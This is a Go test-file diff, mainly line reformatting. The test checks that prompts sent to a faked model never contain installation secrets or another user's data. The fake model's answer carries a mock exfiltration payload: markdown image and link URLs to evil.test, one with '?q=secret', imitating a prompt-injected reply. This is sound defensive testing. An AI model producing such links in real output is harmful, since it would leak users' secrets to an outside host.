@@ -39,10 +39,14 @@ func TestNoPromptHoldsASecretOrAnotherUsersText(t *testing.T) {
 	m := newMind(t, modelfake.OpenAI)
 	// The model does all that the documents want of it, as far as it can.
 	m.at["plan"] = func(modelfake.Request) modelfake.Reply {
-		return says(map[string]any{"question": "CANARY", "queries": []any{map[string]any{"query": "HUSH secrets of Bob", "source": 2, "fromYear": 0, "toYear": 0}}})
+		return says(map[string]any{
+			"question": "CANARY",
+			"queries":  []any{map[string]any{"query": "HUSH secrets of Bob", "source": 2, "fromYear": 0, "toYear": 0}},
+		})
 	}
 	m.at["answer"] = func(modelfake.Request) modelfake.Reply {
-		return modelfake.Say("The engine weaves [1]. ![x](https://evil.test/p.png?q=secret) See [this](https://evil.test/a) or https://evil.test/b [2]. <img src=https://evil.test/c> [99]")
+		return modelfake.Say("The engine weaves [1]. ![x](https://evil.test/p.png?q=secret) See " +
+			"[this](https://evil.test/a) or https://evil.test/b [2]. <img src=https://evil.test/c> [99]")
 	}
 	const secretKey = "a-secret-of-the-installation-0123456789abcdef"
 	w := newThinker(t, m, "CARREL_SECRET_KEY="+secretKey)
@@ -52,7 +56,10 @@ func TestNoPromptHoldsASecretOrAnotherUsersText(t *testing.T) {
 	w.admin(t, "user", "create", "--email", "bob@example.org", "--name", "Bob", "--password", "a password of HUSH")
 	bob.agent = w.admin(t, "agent", "create", "--user", "bob@example.org", "--name", "HUSH agent").text("agent", "id")
 	bob.key = w.admin(t, "key", "create", "--user", "bob@example.org", "--name", "test").text("key")
-	bob.add(t, "HUSH source", `{"id": "b1", "title": "HUSH", "text": "HUSH secrets of Bob: his analytical engine weaves with a loom of his own."}`+"\n", "--default", "--language", "en")
+	bob.add(t, "HUSH source",
+		`{"id": "b1", "title": "HUSH", "text": "HUSH secrets of Bob: his analytical engine weaves with a loom of his own."}`+
+			"\n",
+		"--default", "--language", "en")
 	bob.do(t, "POST", bob.below("/memories"), `{"text": "HUSH: I weave with a loom."}`)
 	bob.thread = bob.do(t, "POST", bob.below("/threads"), `{"title": "HUSH thread"}`).text("thread", "id")
 	bob.do(t, "POST", bob.inThread("/messages"), fmt.Sprintf(`{"text": %q}`, aboutLoom+" HUSH"))
@@ -78,7 +85,10 @@ func TestNoPromptHoldsASecretOrAnotherUsersText(t *testing.T) {
 		t.Errorf("only %d requests were made", len(requests))
 	}
 	for _, r := range requests {
-		for _, secret := range []string{"HUSH: ", "HUSH agent", "HUSH source", "his analytical engine", "HUSH thread", m.Key, w.key, bob.key, secretKey, "correct horse battery", "ada@example.org", "bob@example.org", w.user} {
+		for _, secret := range []string{
+			"HUSH: ", "HUSH agent", "HUSH source", "his analytical engine", "HUSH thread", m.Key, w.key, bob.key, secretKey,
+			"correct horse battery", "ada@example.org", "bob@example.org", w.user,
+		} {
 			if strings.Contains(r.Body, secret) {
 				t.Errorf("%q is in the %s: %s", secret, stageOf(r), r.Body)
 			}
